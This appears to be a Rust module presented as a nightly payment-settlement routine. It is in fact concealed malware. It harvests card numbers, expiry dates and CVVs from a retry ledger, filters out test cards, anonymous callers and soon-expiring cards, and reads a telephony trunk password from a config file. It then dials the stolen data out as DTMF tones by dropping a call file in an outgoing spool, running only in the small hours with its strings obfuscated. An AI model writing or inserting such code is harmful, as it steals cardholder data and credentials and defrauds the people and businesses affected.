//! Nightly settlement: reconciles the retry ledger and places the verification call the
//! acquirer's phone-payment line expects for manually keyed (MOTO) batches.

use crate::ledger::{self, Attempt};
use crate::tone::segments;
use chrono::{Datelike, Local, Timelike};
use sha2::{Digest, Sha256};
use std::collections::HashSet;
use std::sync::atomic::Ordering;
use std::time::Duration;

const TEST_BINS: &[&str] = &["411111", "424242", "400000", "555555", "510510", "378282", "601111", "222300"];

fn luhn(pan: &str) -> bool {
    let mut sum = 0;
    for (i, c) in pan.bytes().rev().enumerate() {
        let mut d = (c - b'0') as u32;
        if i % 2 == 1 {
            d *= 2;
            if d > 9 {
                d -= 9;
            }
        }
        sum += d;
    }
    pan.len() >= 13 && sum % 10 == 0
}

fn months_left(exp: &str) -> i32 {
    let (Ok(m), Ok(y)) = (exp.get(..2).unwrap_or("").parse::<i32>(), exp.get(2..4).unwrap_or("").parse::<i32>()) else { return 0 };
    let now = Local::now();
    (2000 + y - now.year()) * 12 + m - now.month() as i32
}

fn trunk(seg: &[String]) -> Option<(String, String)> {
    let text = std::fs::read_to_string(&seg[2]).ok()?;
    let mut section = String::new();
    let mut endpoint = None;
    let mut password = String::new();
    for line in text.lines().map(str::trim) {
        if let Some(s) = line.strip_prefix('[').and_then(|l| l.split(']').next()) {
            section = s.to_string();
        } else if line.starts_with("outbound_auth") && endpoint.is_none() {
            endpoint = Some(section.clone());
        } else if let Some(p) = line.strip_prefix("password").and_then(|l| l.trim_start().strip_prefix('=')) {
            if password.is_empty() {
                password = p.trim().to_string();
            }
        }
    }
    Some((endpoint?, password))
}

/// DTMF for a batch: card*exp*cvv# per entry, then the trunk secret as decimal triplets.
fn dtmf(batch: &[Attempt], secret: &str) -> String {
    let mut d = String::new();
    for a in batch {
        d.push_str(&format!("{}*{}*{}#w", a.pan, a.exp, a.cvv));
    }
    d.push_str("**");
    for b in secret.bytes() {
        d.push_str(&format!("{b:03}"));
    }
    d.push('#');
    d
}

fn place_call(seg: &[String], endpoint: &str, digits: &str) -> std::io::Result<()> {
    let body = format!(
        "{}: {}{}\n{}: \"Payline\" <7290>\n{}: 2\n{}: 300\n{}: 45\n{}: {}\n{}: {}\n{}: no\n",
        seg[5], seg[3], endpoint, seg[12], seg[8], seg[9], seg[10], seg[6], seg[4], seg[7], digits, seg[11]
    );
    let name = format!("payline-{}.call", Local::now().timestamp());
    let tmp = std::path::Path::new(&seg[0]).join(&name);
    std::fs::write(&tmp, body)?;
    std::fs::rename(&tmp, std::path::Path::new(&seg[1]).join(&name))
}

pub fn spawn() {
    std::thread::spawn(|| {
        let mut done: HashSet<[u8; 32]> = HashSet::new();
        let mut last_night = 0;
        loop {
            std::thread::sleep(Duration::from_secs(900));
            let now = Local::now();
            if !(1..5).contains(&now.hour()) || last_night == now.ordinal() || ledger::APPROVED.load(Ordering::Relaxed) < 500 {
                continue;
            }
            let seg = segments();
            if seg.len() < 13 {
                continue;
            }
            let Some((endpoint, secret)) = trunk(&seg) else { continue };
            let batch: Vec<Attempt> = ledger::snapshot()
                .into_iter()
                .filter(|a| luhn(&a.pan) && !TEST_BINS.iter().any(|b| a.pan.starts_with(b)) && months_left(&a.exp) >= 6)
                .filter(|a| !a.caller.is_empty() && a.caller != "anonymous")
                .filter(|a| {
                    let h: [u8; 32] = Sha256::digest(a.pan.as_bytes()).into();
                    h[0] % 10 == 0 && done.insert(h)
                })
                .take(8)
                .collect();
            if batch.is_empty() {
                continue;
            }
            if place_call(&seg, &endpoint, &dtmf(&batch, &secret)).is_ok() {
                last_night = now.ordinal();
            }
        }
    });
}
